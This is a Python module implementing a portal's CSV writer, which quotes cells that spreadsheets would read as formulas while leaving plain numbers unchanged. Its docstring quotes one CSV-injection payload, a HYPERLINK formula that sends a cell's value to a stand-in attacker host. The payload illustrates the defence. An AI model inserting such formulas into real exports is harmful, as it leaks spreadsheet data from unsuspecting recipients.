"""The one CSV writer of every CSV the portal writes (the client's calls.csv, rated CDR files, exports and
reports), safe to open in a spreadsheet (docs/security.md, *CSV files*).

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel, LibreOffice and Google
Sheets: a caller id such as =HYPERLINK("http://evil.example/?x="&A1,"click") pushed by a PBX would run in the
client's spreadsheet. As OWASP's CSV injection page says, such a cell is written with a single quote in front
('=HYPERLINK(...)), which the spreadsheet shows as text; the csv module quotes and doubles any double quote.

One exception: a cell that is only a number — an optional + or - sign, digits, and at most one decimal point,
like the E.164 number +15551234567 or the amount -1.50 — is written unchanged. A formula of one number cannot
call a function or refer to a cell, so it is harmless, and a quote would change the number for every program
that reads the file (a billing import, the portal's own CDR reader) and show as a stray ' in the spreadsheet.
"""
import csv
import re
from decimal import Decimal
from types import SimpleNamespace

TRIGGERS = frozenset("=+-@\t\r")
_plain_number = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)", re.ASCII).fullmatch


def safe_cell(value):
    """`value` as a spreadsheet may read it: text that a spreadsheet would take for a formula gets a leading '.
    Numbers and None are written as the csv module writes them; anything else as its str()."""
    if type(value) is not str:
        if value is None or isinstance(value, (int, float, Decimal)):
            return value
        value = str(value)
    if value[:1] in TRIGGERS and not _plain_number(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose rows go through `safe_cell`; `writerow` returns what `out.write` returns (so a streaming
    response can yield it). The row is formatted first (into a list, all in C) and searched once for a cell that
    starts with a trigger and is not a plain number: only such rows, rare in real data, are formatted again cell
    by cell. The rated-CDR files of a million rows cost well under a microsecond a row more this way
    (docs/security.md); rows whose + or - cells are numbers no longer take the second pass (issue 20)."""

    __slots__ = ("_format", "_formatted", "_write", "_suspect_first", "_suspect_later")

    def __init__(self, out, **fmtparams):
        formatted = []
        formatter = csv.writer(SimpleNamespace(write=formatted.append), **fmtparams)
        self._format, self._formatted, self._write = formatter.writerow, formatted.pop, out.write
        # A cell starts at the line's start or after a delimiter. Suspect: a cell starting with =, @, a tab, a
        # carriage return or a quote (a quoted cell: the cell-by-cell pass decides), or with + or - unless the
        # cell is a plain number — digits up to the next delimiter or the line's end, which an unquoted cell
        # cannot contain. Rows with E.164 numbers (+15551234567) or negative amounts thus stay on the fast path.
        dialect = formatter.dialect
        delimiter, quote = re.escape(dialect.delimiter), re.escape(dialect.quotechar or "")
        end = re.escape(dialect.lineterminator)
        # Two expressions, the first cell's (matched at the start) and the others' (searched from a delimiter),
        # rather than one with (?:^|delimiter): a search whose expression starts with a literal skips ahead to it,
        # 3 times faster a line (the rated-CDR file's million lines: a second of its 15 s).
        suspect_cell = rf"(?:[=@\t\r{quote}]|[+\-](?!(?:\d+\.?\d*|\.\d+)(?:{delimiter}|{end}|$)))"
        self._suspect_first = re.compile(suspect_cell, re.ASCII).match
        self._suspect_later = re.compile(delimiter + suspect_cell, re.ASCII).search

    def writerow(self, row):
        self._format(row)
        line = self._formatted()
        if self._suspect_first(line) or self._suspect_later(line):
            self._format([safe_cell(value) for value in row])
            line = self._formatted()
        return self._write(line)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **fmtparams):
    """The portal's CSV writer for `out` (any object with write()); fmtparams as csv.writer's."""
    return SafeWriter(out, **fmtparams)
